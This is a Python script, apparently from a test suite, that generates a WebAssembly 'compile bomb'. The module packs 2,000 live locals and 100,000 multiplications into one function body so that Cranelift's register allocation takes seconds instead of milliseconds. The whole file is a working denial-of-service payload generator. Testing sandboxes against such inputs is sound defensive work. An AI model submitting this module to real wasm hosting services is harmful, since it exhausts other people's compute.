"""Generate compile_bomb.wasm: a 1 MB module whose one function costs Cranelift seconds.

Attack (ours): 2,000 locals mixed by 100,000 multiplications in one body keep every
value live to the end, so register allocation does superlinear work (about 12 s on a
2-core machine, against milliseconds for a normal module of this size). `_start` calls
the function once; the cost is paid before the guest runs, at compile time.
usage: python gen_compile_bomb.py OUT_DIR
"""

from __future__ import annotations

import random
import sys
from pathlib import Path

from wasm_encode import header, leb, section, sleb, vec

LOCALS = 2_000
OPS = 100_000
LOCAL_GET, LOCAL_SET, I32_CONST, I32_ADD, I32_MUL, I32_XOR = 0x20, 0x21, 0x41, 0x6A, 0x6C, 0x73


def bomb_body(locals_count: int = LOCALS, ops: int = OPS, seed: int = 2509,
              max_size: int | None = None) -> bytes:
    """`(func (param i32) (result i32))` with `locals_count`-1 extra locals, all live at the
    end, mixed by `ops` multiplications (fewer when the body would pass `max_size` bytes)."""
    rnd = random.Random(seed)  # fixed seed: the same module every build
    head = bytearray(vec([leb(locals_count - 1) + b"\x7f"]))
    for k in range(1, locals_count):
        head += bytes([LOCAL_GET, 0, I32_CONST]) + sleb(k) + bytes([I32_ADD, LOCAL_SET]) + leb(k)
    tail = bytearray([LOCAL_GET, 0])
    for k in range(1, locals_count):
        tail += bytes([LOCAL_GET]) + leb(k) + bytes([I32_XOR])
    tail += b"\x0b"
    room = (max_size if max_size is not None else 2**62) - len(head) - len(tail)
    mix = bytearray()
    for _ in range(ops):
        a, b, c = (rnd.randrange(locals_count) for _ in range(3))
        op = bytes([LOCAL_GET]) + leb(a) + bytes([LOCAL_GET]) + leb(b)
        op += bytes([I32_MUL, LOCAL_SET]) + leb(c)
        if len(mix) + len(op) > room:
            break
        mix += op
    return bytes(head + mix + tail)


def main(out_dir: Path) -> None:
    # type 0: (i32) -> i32, the bomb; type 1: () -> (), _start
    types = section(1, vec([b"\x60\x01\x7f\x01\x7f", b"\x60\x00\x00"]))
    funcs = section(3, vec([leb(0), leb(1)]))
    exports = section(7, vec([b"\x06_start\x00\x01"]))
    bomb = bomb_body()
    start = b"\x00" + bytes([I32_CONST, 7, 0x10, 0, 0x1A, 0x0B])  # call 0 with 7, drop
    code = section(10, vec([leb(len(bomb)) + bomb, leb(len(start)) + start]))
    (out_dir / "compile_bomb.wasm").write_bytes(header() + types + funcs + exports + code)


if __name__ == "__main__":
    main(Path(sys.argv[1]))
